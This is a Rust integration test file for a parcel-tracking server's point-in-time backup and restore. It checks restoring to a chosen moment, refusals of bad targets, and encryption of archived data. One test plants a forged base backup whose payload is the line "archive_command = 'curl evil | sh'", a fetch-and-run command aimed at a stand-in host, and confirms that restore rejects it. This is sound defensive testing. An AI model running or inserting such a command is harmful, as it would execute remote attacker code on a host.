//! Point-in-time recovery (issue 18, item 5): `serve --wal-archive` ships every WAL segment
//! and a base backup to the backup dir; `admin restore --pitr DIR --until TIME` brings back
//! the database as it was at TIME: the parcel taken in before is there, the one after is
//! not; `--until latest` has both. The real binary, a real server, real SSH intakes.

use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use crate::ssh_support::Client;
use crate::support::{Run, Sandbox};

const PASS: &str = "correct horse battery staple\n";
const BEFORE: &str = "1Z999AA10123456784";
const AFTER: &str = "1Z5R89390357567127";

fn arg(p: &Path) -> &str {
    p.to_str().unwrap()
}

fn refused(run: &Run, what: &str) {
    assert!(!run.ok, "expected a refusal ({what}):\n{run:?}");
    assert!(run.stderr.contains(what), "expected `{what}` in:\n{run:?}");
}

fn files(dir: &Path) -> Vec<PathBuf> {
    let mut v: Vec<PathBuf> = std::fs::read_dir(dir)
        .map(|rd| rd.flatten().map(|e| e.path()).collect())
        .unwrap_or_default();
    v.sort();
    v
}

/// Polls `cond` every 200 ms for up to `limit`.
fn wait_for(what: &str, limit: Duration, mut cond: impl FnMut() -> bool) {
    let until = Instant::now() + limit;
    while !cond() {
        assert!(Instant::now() < until, "timed out waiting for {what}");
        std::thread::sleep(Duration::from_millis(200));
    }
}

/// `admin restore --pitr BACKUPS --until UNTIL --passphrase-stdin` on `s`; `ok`: it must
/// succeed.
fn restore_pitr(s: &Sandbox, backups: &Path, until: &str, pass: &str, ok: bool) -> Run {
    let args = [
        "admin",
        "restore",
        "--pitr",
        arg(backups),
        "--until",
        until,
        "--passphrase-stdin",
    ];
    if ok {
        s.ok(&args, Some(pass))
    } else {
        s.run(&args, Some(pass))
    }
}

/// A sandbox with the keys of `from` (the operator brings the keys dir; backups never hold it).
fn new_host_with_keys(from: &Sandbox) -> Sandbox {
    let s = Sandbox::new();
    std::fs::create_dir_all(s.keys_dir()).unwrap();
    for f in std::fs::read_dir(from.keys_dir()).unwrap() {
        let f = f.unwrap();
        std::fs::copy(f.path(), s.keys_dir().join(f.file_name())).unwrap();
    }
    s
}

#[tokio::test]
async fn restore_to_a_moment_between_two_intakes() {
    let s1 = Sandbox::new();
    let (home, key) = s1.home_with_key();
    let backups = s1.path().join("backups");
    let pass = s1.path().join("pass");
    std::fs::write(&pass, PASS).unwrap();
    let mut served = s1.serve_from(
        &home,
        &[
            "--demo",
            "--backup-dir",
            arg(&backups),
            "--backup-passphrase-file",
            arg(&pass),
            "--wal-archive",
        ],
    );
    let pitr = backups.join("pitr");
    wait_for("the first base backup", Duration::from_secs(120), || {
        files(&pitr).iter().any(|p| {
            p.file_name()
                .unwrap()
                .to_string_lossy()
                .starts_with("packtrack-base-")
        })
    });
    // Each new base is drilled (restored with the WAL up to its end in a throw-away
    // cluster) before older ones are pruned; the verdict is the Security tab's line.
    let status =
        || s1.psql("SELECT ok::int || ' ' || detail FROM backup_status() WHERE kind = 'wal'");
    wait_for("the new base's drill", Duration::from_secs(120), || {
        status().contains("point-in-time")
    });
    let drilled = status();
    assert!(
        drilled.starts_with("1 point-in-time archive OK: packtrack-base-"),
        "{drilled}"
    );
    // While serving, the shipper empties the outbox of what the base backup made PostgreSQL
    // archive; the stop below then has only the segment in use to cut and ship.
    let outbox = s1.data_dir().join("wal-outbox");
    wait_for(
        "the shipper to empty the outbox",
        Duration::from_secs(90),
        || files(&outbox).is_empty(),
    );
    let recipient = s1.psql("SELECT min(id) FROM recipients WHERE active");
    let mut client = Client::connect(served.addr, s1.host_key()).await;
    assert!(client.pubkey("clerk+demo", key.clone()).await.success());
    let intake =
        |tracking: &str| format!("packages intake --tracking {tracking} --recipient {recipient}");
    let out = client.exec(&intake(BEFORE)).await;
    assert_eq!(out.status, Some(0), "{}", out.stderr);
    // The database's clock decides what "before" means to the replay.
    std::thread::sleep(Duration::from_millis(1500));
    let moment =
        s1.psql("SELECT to_char(now() AT TIME ZONE 'utc', 'YYYY-MM-DD\"T\"HH24:MI:SS.US\"Z\"')");
    std::thread::sleep(Duration::from_millis(1500));
    let out = client.exec(&intake(AFTER)).await;
    assert_eq!(out.status, Some(0), "{}", out.stderr);
    drop(client);
    // A clean stop cuts the segment in use and ships it: nothing waits for archive_timeout.
    served.terminate_ok("serve --wal-archive");
    // A moment after the last archived commit: nothing covers it.
    std::thread::sleep(Duration::from_millis(1500));
    let after_the_end = chrono::Utc::now().format("%Y-%m-%dT%H:%M:%SZ").to_string();

    let wal = pitr.join("wal");
    let left = files(&outbox);
    assert!(
        left.is_empty(),
        "everything archived was shipped at shutdown, left: {left:?}\n{}",
        served.log()
    );
    // Nothing readable leaves the host: no tracking number in any archived file.
    for f in files(&wal).iter().chain(files(&pitr).iter()) {
        if f.is_file() {
            let bytes = std::fs::read(f).unwrap();
            assert!(
                !bytes.windows(BEFORE.len()).any(|w| w == BEFORE.as_bytes()),
                "plaintext in {}",
                f.display()
            );
        }
    }

    // --- to the moment between the two intakes, on a new host ----------------------------
    let s2 = new_host_with_keys(&s1);
    let run = restore_pitr(&s2, &backups, &moment, PASS, true);
    assert!(run.stdout.starts_with("restored to "), "{run:?}");
    let has = |s: &Sandbox, t: &str| {
        s.psql(&format!(
            "SELECT count(*) FROM packages WHERE tracking = '{t}'"
        ))
    };
    assert_eq!(
        has(&s2, BEFORE),
        "1",
        "the intake before the moment is back"
    );
    assert_eq!(has(&s2, AFTER), "0", "the intake after the moment is not");
    s2.ok(&["admin", "audit", "verify"], None);
    let run = restore_pitr(&s2, &backups, "latest", PASS, false);
    refused(&run, "already holds a database");

    // --- the monthly drill of the archive, recorded for the Security tab -------------------
    let run = s1.ok(
        &[
            "admin",
            "backup",
            "verify",
            "--pitr",
            arg(&backups),
            "--passphrase-stdin",
        ],
        Some(PASS),
    );
    assert!(
        run.stdout.starts_with("point-in-time archive OK:"),
        "{run:?}"
    );
    let drill = s1.psql("SELECT ok::int || ' ' || detail FROM backup_status() WHERE kind = 'wal'");
    assert!(drill.starts_with("1 point-in-time archive OK"), "{drill}");

    // --- refusals leave no cluster behind -------------------------------------------------
    let s3 = new_host_with_keys(&s1);
    let run = restore_pitr(&s3, &backups, "2001-01-01T00:00:00Z", PASS, false);
    refused(&run, "cannot go back that far");
    let run = restore_pitr(&s3, &backups, "2999-01-01T00:00:00Z", PASS, false);
    refused(&run, "is in the future");
    let run = restore_pitr(&s3, &backups, &after_the_end, PASS, false);
    refused(&run, "the archive ends before that moment");
    let run = restore_pitr(&s3, &backups, "latest", "wrong guess\n", false);
    refused(&run, "wrong passphrase");
    assert!(
        !s3.data_dir().join("postgres").exists(),
        "no cluster left by a refusal"
    );
    let base = files(&pitr)
        .into_iter()
        .find(|p| p.extension().is_some_and(|e| e == "age"))
        .unwrap();
    let run = s3.run(
        &[
            "admin",
            "backup",
            "verify",
            arg(&base),
            "--passphrase-stdin",
        ],
        Some(PASS),
    );
    refused(&run, "base backup for point-in-time recovery");

    // --- to the end of the archive: both intakes ------------------------------------------
    let run = restore_pitr(&s3, &backups, "latest", PASS, true);
    assert!(run.stdout.contains("the end of the archive"), "{run:?}");
    assert_eq!(has(&s3, BEFORE), "1");
    assert_eq!(has(&s3, AFTER), "1");

    // The restored host serves: the clerk logs in with the same key and finds both parcels.
    let mut served = s3.serve(&[]);
    let mut client = Client::connect(served.addr, s3.host_key()).await;
    assert!(client.pubkey("clerk+demo", key.clone()).await.success());
    let listed = client.exec("packages list --status waiting").await;
    for t in [BEFORE, AFTER] {
        assert!(listed.stdout.contains(t), "{t} listed:\n{}", listed.stdout);
    }
    drop(client);
    served.terminate_ok("serve on the restored data dir");
}

/// Attack: whoever can write to the backup storage and knows the public recipient key (it
/// is on the server, in its command line) encrypts a crafted cluster directory to it and
/// names it as the newest base backup. Restoring it would run the attacker's configuration
/// and catalogs. Refused before anything is decrypted or unpacked: it lacks the MAC only a
/// holder of the installation's secrets key can make.
#[tokio::test]
async fn a_base_backup_planted_with_the_public_recipient_key_is_refused() {
    use packtrack::backup::pitr::{self, restore};
    use packtrack::backup::{BackupError, DecryptWith};
    use std::io::Write;
    let tmp = tempfile::tempdir().unwrap();
    let keys = tmp.path().join("keys");
    std::fs::create_dir_all(&keys).unwrap();
    packtrack::secrets::SecretsKey::load_or_create(&keys).unwrap();
    let dir = tmp.path().join("pitr");
    std::fs::create_dir_all(dir.join(pitr::WAL_DIR)).unwrap();
    let id = age::x25519::Identity::generate();
    let planted = dir.join(pitr::base_name(
        chrono::Utc::now(),
        "000000010000000000000002",
    ));
    let recipient = id.to_public();
    let enc = age::Encryptor::with_recipients(std::iter::once(&recipient as &dyn age::Recipient))
        .unwrap();
    let mut w = enc
        .wrap_output(std::fs::File::create(&planted).unwrap())
        .unwrap();
    w.write_all(b"archive_command = 'curl evil | sh'").unwrap();
    w.finish().unwrap();
    // With a made-up tag as well.
    for forged_mac in [None, Some("v1 00000000 00")] {
        if let Some(line) = forged_mac {
            std::fs::write(pitr::mac::sidecar(&planted), line).unwrap();
        }
        let data = tmp.path().join("data");
        let req = restore::Request {
            dir: &dir,
            to: packtrack::db::pg::archive::RecoverTo::Latest,
            key: DecryptWith::Identities(vec![id.clone()]),
            data_dir: &data,
            keys_dir: &keys,
            without_secrets_key: false,
        };
        let err = restore::restore(req).await.unwrap_err();
        assert!(
            matches!(&err, BackupError::Damaged { .. })
                && err.to_string().contains("not authenticated"),
            "{err}"
        );
        assert!(!data.join("postgres").exists(), "nothing unpacked");
    }
}
